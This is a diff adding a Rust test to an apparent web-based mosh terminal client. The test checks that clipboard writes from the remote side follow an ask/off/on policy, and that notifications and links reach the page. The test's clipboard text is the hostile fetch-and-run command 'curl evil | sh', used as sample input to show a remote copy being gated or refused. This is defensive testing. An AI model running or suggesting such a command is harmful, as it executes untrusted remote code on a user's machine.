@@ -234,4 +234,34 @@ mod tests {
         assert_eq!(preview(&long), format!("{}…", "x".repeat(PREVIEW_CHARS)));
         assert_eq!(preview(&"y".repeat(PREVIEW_CHARS)), "y".repeat(PREVIEW_CHARS));
     }
+
+    /// What the relay sends of what mosh-server drops: a clipboard write goes by the same setting
+    /// as mosh's own OSC 52; a notification and a link go to the page as they came.
+    #[test]
+    fn signals_from_the_relay_become_the_pages_effects() {
+        use crate::page::{Effect, PageClient};
+        use crate::relay_proto::PageSignal;
+        let target = crate::relay_client::Target { token: "t".into(), bridge: None };
+        let mut c = PageClient::new(target, crate::terminal::Size { cols: 80, rows: 24 }, 1);
+        while c.poll_effect().is_some() {}
+        let clip = || PageSignal::Clipboard { text: "curl evil | sh".into() };
+        c.signal(clip());
+        let Some(Effect::Clipboard(copy)) = c.poll_effect() else { panic!("no clipboard effect") };
+        assert_eq!(copy, remote_copy(RemoteCopyPolicy::Ask, "curl evil | sh"));
+        c.set_remote_copy(RemoteCopyPolicy::Off);
+        c.signal(clip());
+        let Some(Effect::Clipboard(copy)) = c.poll_effect() else { panic!("no clipboard effect") };
+        assert_eq!((copy.action, copy.text.as_str()), (RemoteCopyAction::Refused, ""));
+        c.set_remote_copy(RemoteCopyPolicy::On);
+        c.signal(clip());
+        let Some(Effect::Clipboard(copy)) = c.poll_effect() else { panic!("no clipboard effect") };
+        assert_eq!(copy.action, RemoteCopyAction::Write);
+        c.signal(PageSignal::Notify { title: "T".into(), body: "B".into() });
+        assert!(
+            matches!(c.poll_effect(), Some(Effect::Notify { title, body }) if title == "T" && body == "B")
+        );
+        c.signal(PageSignal::Link { url: "https://e.x/".into(), text: "e".into(), col: 2 });
+        assert!(matches!(c.poll_effect(), Some(Effect::Link { col: 2, .. })));
+        assert!(c.poll_effect().is_none());
+    }
 }
